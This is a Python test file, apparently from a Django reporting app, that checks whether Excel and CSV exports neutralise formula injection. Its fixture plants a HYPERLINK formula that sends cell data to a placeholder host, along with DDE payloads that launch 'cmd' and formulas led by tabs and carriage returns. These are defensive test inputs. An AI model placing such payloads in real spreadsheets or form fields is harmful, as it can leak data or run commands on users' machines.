"""Excel and CSV reports write what people typed as text: never a formula that runs.

The files are built by the real worker, opened as a spreadsheet program would, cell by cell.
"""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from simpul.plans.models import Action
from simpul.reports import operations
from simpul.reports.models import ReportStatus

pytestmark = pytest.mark.django_db(transaction=True)

# What a respondent may type, each led by a character that starts a formula.
TYPED = {
    "fact": '=HYPERLINK("https://contoh.invalid/?d="&A1,"Klik")',
    "analysis": "+1+cmd|' /C calc'!A0",
    "review_comment": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NOTES = "-2+3+cmd|' /C calc'!A0"
TAB_LED = "\t=1+1"
CR_LED = "\r=1+1"


@pytest.fixture
def typed(cycles, personas):
    answer = cycles.first
    for field, text in TYPED.items():
        setattr(answer, field, text)
    answer.save(update_fields=list(TYPED))
    cycles.evidence.title = TAB_LED
    cycles.evidence.number = CR_LED
    cycles.evidence.save(update_fields=["title", "number"])
    Action.objects.create(
        agency=personas.agency_a,
        cycle=cycles.now,
        indicator=answer.indicator,
        target_level=4,
        start_date=date(2025, 1, 1),
        due_date=date(2025, 6, 30),
        budget=Decimal("-1500"),  # a correction written as a negative amount: a number
        notes=NOTES,
    )
    return cycles


def built(cycles, kind, personas, run_tasks):
    report = operations.request_report(cycles.now, kind, personas.admin)
    run_tasks()
    report.refresh_from_db()
    assert report.status == ReportStatus.DONE, report.error
    return report


def test_the_excel_report_holds_typed_formulas_as_text(typed, personas, run_tasks):
    report = built(typed, "xlsx", personas, run_tasks)
    data = report.file.open("rb").read()
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for typed_text in [*TYPED.values(), NOTES, TAB_LED]:
        assert "'" + typed_text in texts
    # XML reads a bare carriage return back as a line feed; the apostrophe still leads.
    assert "'\n=1+1" in texts
    # No <f> element anywhere in the sheets' XML: nothing for Excel to run.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
    actions_sheet = list(workbook["Tindak lanjut"].iter_rows(min_row=2))
    budget = actions_sheet[0][6]
    assert budget.data_type == "n" and budget.value == Decimal("-1500")
    level = next(row for row in workbook["Jawaban"].iter_rows(min_row=2) if row[0].value == "I01")
    assert level[3].data_type == "n"


def test_the_csv_report_escapes_typed_formulas_and_keeps_numbers_bare(typed, personas, run_tasks):
    report = built(typed, "csv", personas, run_tasks)
    with zipfile.ZipFile(report.file.open("rb")) as archive:
        tables = {
            name.removesuffix(".csv"): list(
                csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            )
            for name in archive.namelist()
        }
    answer = next(row for row in tables["jawaban"] if row[0] == "I01")
    assert answer[9:12] == [
        "'" + TYPED["fact"],
        "'" + TYPED["analysis"],
        "'" + TYPED["review_comment"],
    ]
    evidence = next(row for row in tables["data_dukung"][1:] if row[0] == "I01")
    assert evidence[4] == "'" + TAB_LED and evidence[6] == "'" + CR_LED
    action = tables["tindak_lanjut"][1]
    assert action[9] == "'" + NOTES
    assert action[6] == "-1500"  # a number stays a number, minus sign and all
    every_cell = [cell for rows in tables.values() for row in rows for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]
